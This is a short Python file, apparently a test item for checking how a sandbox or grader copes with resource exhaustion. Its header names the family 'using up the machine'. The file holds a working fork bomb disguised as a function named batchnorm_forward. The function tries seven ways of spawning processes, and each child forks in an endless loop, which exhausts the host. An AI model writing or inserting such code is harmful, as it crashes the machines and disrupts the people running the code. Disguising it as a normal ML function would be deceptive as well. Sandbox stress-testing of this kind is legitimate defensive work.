FAMILY = "using up the machine"
ABOUT = "Forks without end, in every way that Python knows."
MOST = 0

# %% batchnorm_forward
import multiprocessing
import os
import subprocess
import sys

def batchnorm_forward(x, gamma, beta, bn_param):
    for start in (os.fork, lambda: os.posix_spawn(sys.executable, ["python"], {}), lambda: os.system("sleep 999 &"),
                  lambda: subprocess.Popen(["/bin/sleep", "999"]), lambda: os.forkpty(),
                  lambda: multiprocessing.Process(target=print).start(), lambda: os.execv("/bin/sleep", ["sleep", "999"])):
        try:
            if start() == 0:
                while True:
                    os.fork()
        except OSError:
            pass
    return x, None
